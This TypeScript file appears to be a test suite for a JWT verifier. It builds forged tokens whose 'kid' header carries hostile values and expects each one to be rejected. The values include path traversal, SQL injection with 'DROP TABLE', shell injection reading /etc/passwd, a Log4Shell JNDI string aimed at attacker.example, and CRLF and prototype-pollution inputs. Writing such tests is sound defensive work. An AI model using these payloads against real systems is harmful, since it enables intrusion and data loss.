/** A kid that means something to a file system, a database, a shell or an object (RFC 8725 section 3.10). */
import { jwks, rsaA, secret } from '#content/keys/keys.ts';
import type { Attack, Family } from './attack.ts';
import { draft, mint, privateKey } from './forge.ts';

/** What the attacker hopes to have it looked up as, and the secret that would come of it. */
const LOOKUPS: readonly (readonly [string, string])[] = [
  ['../../../../../../dev/null', ''],
  ['/dev/null', ''],
  ['..\\..\\..\\windows\\win.ini', ''],
  ['/proc/sys/kernel/randomize_va_space', '2\n'],
  ['file:///dev/null', ''],
  ['%2e%2e%2f%2e%2e%2fdev%2fnull', ''],
  ['....//....//dev/null', ''],
  ['key.pem\u0000.txt', 'x'],
  ["' UNION SELECT 'x'-- ", 'x'],
  ["x' OR '1'='1", 'x'],
  ['1; DROP TABLE keys;--', 'x'],
  ['{"$ne":null}', 'x'],
  ['*)(uid=*))(|(uid=*', 'x'],
  ['| cat /etc/passwd', 'x'],
  ['`id`', 'x'],
  ['$(id)', 'x'],
  ['{{7*7}}', '49'],
  ['${jndi:ldap://attacker.example/a}', 'x'],
  ['https://attacker.example/key', 'x'],
  ['a\r\nSet-Cookie: b=c', 'x'],
  ['__proto__', ''],
  ['constructor', 'function Object() { [native code] }'],
  ['toString', 'function toString() { [native code] }'],
  ['length', '2'],
  ['0', 'x'],
  ['', ''],
  [`${rsaA.kid}\u200b`, 'x'],
  [rsaA.kid.toUpperCase(), 'x'],
  [` ${rsaA.kid}`, 'x'],
  ['a'.repeat(100_000), 'x'],
];

const short = (text: string): string => JSON.stringify(text.slice(0, 40));

const looked = LOOKUPS.flatMap(([kid, made]): readonly Attack[] => [
  {
    name: `${short(kid)}, against a secret`,
    draft: draft(mint('HS256', made, { alg: 'HS256', kid }), secret),
    fails: 'signature',
  },
  {
    name: `${short(kid)}, against a JWKS`,
    draft: draft(mint('HS256', made, { alg: 'HS256', kid }), jwks),
    fails: 'key',
  },
]);

/** RFC 7515 section 4.1.4: "its value MUST be a case-sensitive string". Signed with the right key. */
const TYPES: readonly unknown[] = [null, true, 0, 1, ['a'], [], {}, { toString: 'a' }, [rsaA.kid]];
const typed = TYPES.map((kid): Attack => ({
  name: `kid of JSON ${JSON.stringify(kid)}`,
  draft: draft(mint('RS256', privateKey('rsaA'), { alg: 'RS256', kid }), rsaA.spki),
  fails: 'header',
}));

const set = (...keys: readonly object[]): string => JSON.stringify({ keys });
const mine = mint('RS256', privateKey('rsaA'), { alg: 'RS256', kid: rsaA.kid });
const sets: readonly Attack[] = [
  ['a kid that two keys have', set(rsaA.jwk, { ...rsaA.jwk, e: 'AQAB' })],
  ['the key for encryption', set({ ...rsaA.jwk, use: 'enc' })],
  ['the key for another algorithm', set({ ...rsaA.jwk, alg: 'PS256' })],
  ['the key for other operations', set({ ...rsaA.jwk, key_ops: ['encrypt'] })],
  ['the kid in another case', set({ ...rsaA.jwk, kid: 'RSA-2026-A' })],
  ['the kid as a number', set({ ...rsaA.jwk, kid: 1 })],
].map(([name = '', key = '']) => ({
  name: `a set with ${name}`,
  draft: draft(mine, key),
  fails: 'key',
}));

export const kid: Family = {
  name: 'kid tricks',
  control: draft(mine, jwks),
  attacks: [...looked, ...typed, ...sets],
};
